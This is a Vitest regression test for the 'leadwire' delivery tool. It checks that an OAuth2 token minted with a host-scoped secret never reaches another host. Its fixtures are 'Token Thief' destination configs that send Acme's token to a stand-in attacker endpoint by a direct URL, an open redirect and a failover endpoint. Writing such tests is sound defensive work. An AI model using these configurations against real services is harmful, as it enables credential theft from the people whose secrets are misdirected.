import { randomUUID } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest';
import { startReceiver, type Receiver } from '../../src/receiver/start-receiver.js';
import { deadUrl, startRawServer, type RawServer } from '../helpers/request-servers.js';
import { runCli } from '../helpers/run-cli.js';
import { startHarness, type Harness } from '../helpers/temporal-harness.js';

/*
 * Issue 20, item 1, as a user hits it. The secrets file grants ACME_CLIENT_SECRET to Acme's
 * hosts only (here 127.0.0.1: Acme's token endpoint and API). A destination author takes
 * Acme's token_url and client secret and points `url` at their own server (here `localhost`,
 * another host name: evil.example). Before the fix the worker fetched Acme's real token and
 * sent it there as `Authorization: Bearer ...`; now nothing is sent, with SECRET_NOT_GRANTED.
 */

const ACME_CLIENT_SECRET = `acme-client-secret-${randomUUID()}`;
const ACME_TOKEN = `acme-access-token-${randomUUID()}`;

let dir: string;
let harness: Harness;
let tokenServer: RawServer;
let acmeApi: Receiver;
let evil: Receiver;
let env: Record<string, string>;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'leadwire-token-scope-'));
  await writeFile(join(dir, 'secrets.yaml'), ['secrets:', '  ACME_CLIENT_SECRET:', '    from_env: ACME_OAUTH_SECRET', '    hosts: [127.0.0.1]', ''].join('\n'));
  env = { LEADWIRE_SECRETS_FILE: join(dir, 'secrets.yaml'), ACME_OAUTH_SECRET: ACME_CLIENT_SECRET };
  [harness, tokenServer, acmeApi, evil] = await Promise.all([
    startHarness({ env }),
    // Acme's token endpoint: a token for Acme's client secret only.
    startRawServer((req) =>
      new URLSearchParams(req.body.toString('utf8')).get('client_secret') === ACME_CLIENT_SECRET
        ? { status: 200, body: { access_token: ACME_TOKEN, token_type: 'Bearer', expires_in: 3600 } }
        : { status: 401, body: { error: 'invalid_client' } },
    ),
    startReceiver(),
    startReceiver(),
  ]);
});
afterAll(async () => {
  await harness?.close();
  await Promise.all([tokenServer?.close(), acmeApi?.close(), evil?.close()]);
  if (dir) await rm(dir, { recursive: true, force: true });
});
beforeEach(() => {
  acmeApi.clear();
  evil.clear();
  tokenServer.requests.length = 0;
});

const evilCollect = () => `http://localhost:${evil.port}/collect`;

/** A destination file that uses Acme's OAuth2 grant; `url` and more as given. */
async function destinationFile(lines: string[]): Promise<string> {
  const file = join(dir, `dest-${randomUUID()}.yaml`);
  await writeFile(
    file,
    [
      `name: Token Thief ${randomUUID().slice(0, 8)}`,
      ...lines,
      'allow_insecure_http: true',
      'timeout: 10000',
      'retry: { max_attempts: 1 }',
      'park: { window: 0 }',
      'auth:',
      '  type: oauth2_client_credentials',
      `  token_url: ${tokenServer.url}/token`,
      '  client_id: acme',
      '  client_secret: ${ACME_CLIENT_SECRET}',
      '  client_auth: body',
      'body: { format: json, mapping: { email: email } }',
      '',
    ].join('\n'),
  );
  return file;
}

const leadArg = () => JSON.stringify({ id: `l-${randomUUID()}`, email: 'victim@example.com' });
const connection = () => ['--address', inject('temporalAddress'), '--task-queue', harness.taskQueue];

/** `leadwire deliver --wait --json`: a real worker (the harness's, with the secrets file) delivers it. */
async function deliver(file: string) {
  const run = await runCli(['deliver', file, '--lead', leadArg(), '--wait', '--json', ...connection()]);
  expect(run.stderr).toBe('');
  const result = JSON.parse(run.stdout) as { deliveryId: string; outcome: string; errorCode?: string; reason: string };
  const history = JSON.stringify(await harness.temporal.workflow.getHandle(result.deliveryId).fetchHistory());
  return { run, result, history };
}

function expectTokenNeverLeft(...texts: string[]) {
  expect(evil.requests).toHaveLength(0);
  for (const text of [JSON.stringify(evil.requests), ...texts]) {
    expect(text).not.toContain(ACME_TOKEN);
    expect(text).not.toContain(ACME_CLIENT_SECRET);
  }
}

describe("a token minted with a host-scoped secret goes only to that secret's hosts", () => {
  it('leadwire test: refused before anything is sent, naming the secret, the host and what to do', async () => {
    const file = await destinationFile([`url: ${evilCollect()}`]);
    const run = await runCli(['test', file, '--lead', leadArg()], env);
    expect(run.code).toBe(1);
    expect(run.stdout).toMatch(/verdict\s+! error \(SECRET_NOT_GRANTED\)/);
    expect(run.stdout).toContain('OAuth2 access token');
    expect(run.stdout).toContain('ACME_CLIENT_SECRET');
    expect(run.stdout).toContain('localhost');
    expect(run.stdout).toMatch(/add localhost to that list/);
    // Not even the token was fetched.
    expect(tokenServer.requests).toHaveLength(0);
    expectTokenNeverLeft(run.stdout, run.stderr);
  });

  it('leadwire deliver: the delivery ends in error, and the token never reaches the other host nor the history', async () => {
    const { result, history } = await deliver(await destinationFile([`url: ${evilCollect()}`]));
    expect(result.outcome).toBe('error');
    expect(result.errorCode).toBe('SECRET_NOT_GRANTED');
    expect(result.reason).toContain('ACME_CLIENT_SECRET');
    expect(result.reason).toContain('localhost');
    expect(tokenServer.requests).toHaveLength(0);
    expectTokenNeverLeft(history);
  });

  it("leadwire deliver: Acme's own API still gets the token", async () => {
    const { result, history } = await deliver(await destinationFile([`url: ${acmeApi.url}/leads`]));
    expect(result.outcome).toBe('success');
    expect(acmeApi.requests[0]!.headers.authorization).toBe(`Bearer ${ACME_TOKEN}`);
    expect(history).not.toContain(ACME_TOKEN);
  });

  it('leadwire deliver: an open redirect on the granted host does not carry the request to another host', async () => {
    const to = encodeURIComponent(evilCollect());
    const { result } = await deliver(await destinationFile([`url: ${acmeApi.url}/redirect?status=307&to=${to}`, 'follow_redirects: true']));
    expect(result.outcome).toBe('error');
    expect(result.errorCode).toBe('REDIRECT_NOT_GRANTED');
    expect(result.reason).toContain('redirect to localhost');
    expect(result.reason).toContain('ACME_CLIENT_SECRET');
    expect(acmeApi.requests).toHaveLength(1);
    expectTokenNeverLeft(result.reason);
  });

  it('leadwire deliver: an endpoint on another host that the pool could fail over to is refused before the first is tried', async () => {
    const { result } = await deliver(await destinationFile([`url: ${await deadUrl()}/leads`, `endpoints: ["${evilCollect()}"]`, 'endpoint_strategy: in_order']));
    expect(result.outcome).toBe('error');
    expect(result.errorCode).toBe('SECRET_NOT_GRANTED');
    expect(result.reason).toContain('localhost');
    expect(tokenServer.requests).toHaveLength(0);
    expectTokenNeverLeft(result.reason);
  });
});
